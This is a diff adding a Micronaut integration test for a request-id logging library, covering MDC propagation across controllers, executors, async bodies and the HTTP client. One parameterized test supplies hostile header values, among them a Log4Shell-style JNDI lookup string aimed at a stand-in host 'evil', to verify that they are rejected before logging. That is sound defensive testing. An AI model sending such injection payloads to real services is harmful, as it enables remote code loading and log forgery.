@@ -1,0 +1,118 @@
+package dev.logctx.micronaut;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.micronaut.http.HttpRequest;
+import io.micronaut.http.HttpResponse;
+import io.micronaut.http.client.HttpClient;
+import io.micronaut.http.client.annotation.Client;
+import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
+import jakarta.inject.Inject;
+import java.util.Map;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/**
+ * With logctx-micronaut over real HTTP: the request id reaches event-loop and {@code @ExecuteOn}
+ * controllers, executor tasks (with the MDC of the moment of submission), {@code @PreserveContext
+ * @Async} bodies, and the HTTP client; hostile ids never reach a log line.
+ */
+@MicronautTest
+class RequestIdHttpTest {
+  @Inject
+  @Client("/")
+  HttpClient client;
+
+  private CapturedLogs logs;
+
+  @BeforeEach
+  void capture() {
+    logs = CapturedLogs.capture();
+  }
+
+  @AfterEach
+  void release() {
+    logs.close();
+  }
+
+  private String get(String path, String id) {
+    HttpResponse<String> response =
+        client.toBlocking().exchange(HttpRequest.GET(path).header("X-Request-ID", id), String.class);
+    return response.header("X-Request-ID");
+  }
+
+  @Test
+  void an_event_loop_controller_logs_with_the_request_id() {
+    assertThat(get("/t/loop", "req-loop")).isEqualTo("req-loop");
+    CapturedLogs.Line line = logs.line("loop");
+    assertThat(line.thread()).containsIgnoringCase("eventloop");
+    assertThat(line.requestId()).isEqualTo("req-loop");
+  }
+
+  @Test
+  void an_execute_on_controller_logs_with_the_request_id() {
+    get("/t/blocking", "req-blocking");
+    CapturedLogs.Line line = logs.line("blocking");
+    assertThat(line.thread()).doesNotContainIgnoringCase("eventloop");
+    assertThat(line.requestId()).isEqualTo("req-blocking");
+  }
+
+  @Test
+  void executor_tasks_get_the_mdc_of_the_moment_they_are_submitted() {
+    get("/t/submit", "req-submit");
+    for (String task : new String[] {"io task", "blocking task"}) {
+      assertThat(logs.line(task).mdc())
+          .as(task)
+          .isEqualTo(Map.of("request_id", "req-submit", "user_id", "at-submit"));
+    }
+  }
+
+  @Test
+  void a_preserve_context_async_body_gets_the_mdc_of_the_call() {
+    get("/t/async", "req-async");
+    assertThat(logs.line("body from-request").mdc())
+        .isEqualTo(Map.of("request_id", "req-async", "user_id", "at-call"));
+  }
+
+  @Test
+  void the_client_filter_forwards_the_request_id() {
+    HttpResponse<String> response =
+        client
+            .toBlocking()
+            .exchange(HttpRequest.GET("/t/forward").header("X-Request-ID", "req-fwd"), String.class);
+    assertThat(response.body()).isEqualTo("req-fwd");
+  }
+
+  @Test
+  void a_missing_id_is_generated_and_echoed() {
+    HttpResponse<String> response = client.toBlocking().exchange(HttpRequest.GET("/t/loop"), String.class);
+    String id = response.header("X-Request-ID");
+    assertThat(id).matches("[0-9a-f-]{36}");
+    assertThat(logs.line("loop").requestId()).isEqualTo(id);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "${jndi:ldap://evil/x}",
+        "a b",
+        "id%n-forged",
+        "0123456789012345678901234567890123456789012345678901234567890123456789",
+        "quote\"d",
+        "é-not-ascii"
+      })
+  void a_hostile_id_never_reaches_a_log_line(String hostile) {
+    String echoed = get("/t/loop", hostile);
+    assertThat(echoed).isNotEqualTo(hostile).matches("[0-9a-f-]{36}");
+    assertThat(logs.line("loop").requestId()).isEqualTo(echoed);
+    assertThat(logs.lines())
+        .allSatisfy(
+            line -> {
+              assertThat(line.message()).doesNotContain(hostile);
+              assertThat(line.mdc().values()).doesNotContain(hostile);
+            });
+  }
+}
